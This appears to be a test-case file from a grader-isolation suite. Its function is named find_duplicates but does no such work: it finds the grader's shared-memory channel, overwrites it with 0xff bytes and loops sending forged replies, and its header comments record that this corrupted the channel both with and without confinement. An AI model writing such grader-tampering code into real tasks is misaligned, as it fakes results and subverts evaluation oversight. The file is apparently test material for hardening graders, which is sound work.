// Attack: overwrites the whole control block, again and again.
// Outcome: wrote garbage over the channel to the grader
// Unconfined: wrote garbage over the channel to the grader

#include "find_duplicates.h"

#include "parts/channel.h"
#include "parts/slow.h"

std::vector<int> find_duplicates(std::span<const int> values) {
  Channel* channel = find_channel();
  const std::uint32_t request = channel->request.load();
  std::memset(static_cast<void*>(channel), 0xff, 4096);
  while (true) {
    channel->reply.store(request);
    wake(channel);
    usleep(50);
  }
}
